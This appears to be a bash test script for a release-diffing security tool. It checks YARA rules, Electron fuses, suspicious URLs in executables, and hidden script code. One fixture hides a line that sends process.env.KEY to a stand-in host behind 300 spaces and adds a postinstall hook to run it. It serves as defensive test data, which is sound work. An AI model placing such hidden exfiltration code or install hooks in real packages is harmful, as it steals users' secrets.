#!/usr/bin/env bash
# assay diff on what is not form: rules of YARA, switches of Electron, texts of programs and scripts.
. "$(dirname "$0")/lib.sh"
need_program
need_tools jq
[[ -x $make/makepe && -x $make/ziptar ]] || skip_all 'makepe or ziptar is not built'
export XDG_DATA_HOME=$work/home
mkdir -p "$work/one" "$work/two"
cd "$work" || exit 2

# RULE:SEVERITY:STRENGTH MEMBERS of each finding of one rule.
told() { jq -r --arg rule "$1" 'select(.type == "finding" and .rule == $rule) | "\(.severity):\(.strength) \(.members | join(" "))"' <<<"$out" | sort | paste -sd';'; }

# Rules: what both match is no difference; what one says of itself counts.
printf 'hello\n' >one/main.js
printf 'hello\nbeacon scored\n' >two/main.js
printf 'a beacon\n' >two/new.txt
cat >rules.yar <<'YARA'
rule plain { strings: $a = "beacon" condition: $a }
rule scored { meta: score = 85 strings: $a = "scored" condition: $a }
rule both { strings: $a = "hello" condition: $a }
YARA
assay diff -f jsonl --rules rules.yar one two
is 'rules that came to match' "$status $(told diff_yara)" '1 high:firm main.js;medium:firm main.js new.txt'
assay diff -f jsonl --rules rules.yar two one
is 'rules that no longer match are a change and no finding' \
    "$status $(jq -r 'select(.type == "member" and .after.path == "main.js") | .changes[] | select(.group == "rules") | .before' <<<"$out")" '0 plain and scored'
for format in text markdown sarif html; do
    assay diff -f "$format" --rules rules.yar one two
    like "$format tells them" "$out" 'scored'
done
assay scan --release --rules rules.yar -o with.assay two
assay scan --release -o without.assay one
assay diff -f jsonl with.assay two
is 'a case knows which rules were tried on it' "$(jq -r 'select(.rule == "diff_yara").strength' <<<"$out" | sort -u)" ''
assay diff -f jsonl --rules rules.yar with.assay two
is 'the same rules on the same release' "$(told diff_yara)" ''
assay diff -f jsonl --rules rules.yar without.assay two
is 'rules that were not tried before: weak, so that they stop nothing' "$status $(told diff_yara)" '0 high:weak main.js;medium:weak main.js;medium:weak main.js new.txt'
assay intel add rules.yar
assay diff -f jsonl one two
is 'sets that are kept are tried' "$(told diff_yara)" 'high:firm main.js;medium:firm main.js new.txt'
printf 'rule broken {' >broken.yar
assay diff --rules broken.yar one two
is 'rules that do not compile: status 2' "$status" 2
assay intel remove rules

# Programs: what their texts name, and fuses behind the image, as Electron has them somewhere in it.
release() { # folder version fuses; what follows goes to the program
    local to=$1
    rm -rf "$1" && mkdir "$1"
    "$make/makepe" "$to/app.exe" exe import='kernel32.dll!CreateFileW' time=1600000000 version="$2" product=App original=app.exe text=https://maker.example/x "${@:4}"
    printf 'dL7pKGdnNz796PbbjQWNKmHXBZaB9tsX\1\11%s' "$3" >>"$to/app.exe"
    printf '{"name":"app","version":"%s"}\n' "$2" >"$to/package.json"
}
release one 1.2.3 011011011
release two 1.2.4 011011011
assay diff -f jsonl one two
is 'an honest step' "$(jq -r 'select(.type == "finding") | .rule' <<<"$out")" ''
release two 1.2.4 111001011
assay diff -f jsonl one two
is 'fuses that weaken' "$status $(told diff_electron)" '1 medium:firm app.exe'
is 'are named' "$(jq -r 'select(.rule == "diff_electron").details | keys_unsorted | join(" ")' <<<"$out")" 'RunAsNode EnableEmbeddedAsarIntegrityValidation'
assay diff -f jsonl two one
is 'the other way round they are a change' \
    "$(told diff_electron) $(jq -r 'select(.type == "member").changes[] | select(.group == "fuses") | "\(.what):\(.before)>\(.after)"' <<<"$out" | paste -sd' ')" \
    ' RunAsNode:on>off EnableEmbeddedAsarIntegrityValidation:off>on'
release two 1.2.4 011011011 text=http://5.188.206.1/gate
assay diff -f jsonl one two
is 'an address by its number' "$status $(told diff_texts)" '1 medium:firm app.exe'
release two 1.2.4 011011011 text=https://docs.maker.example/new
assay diff -f jsonl one two
is 'another page of the same maker' "$status $(told diff_texts)" '0 '

# Scripts: what was pushed out of sight, and what runs when the package is installed.
printf 'start();\n' >one/main.js
printf 'start();%300s\n' 'fetch("http://x/"+process.env.KEY);' >two/main.js
printf '{"name":"app","version":"1.2.4","scripts":{"postinstall":"node main.js"}}\n' >two/package.json
assay diff -f jsonl one two
is 'code out of sight, and a command' "$status $(told diff_script)" '1 high:firm main.js;medium:firm package.json'
assay diff one two
like 'text tells them' "$out" 'hiding: fetch'
finish
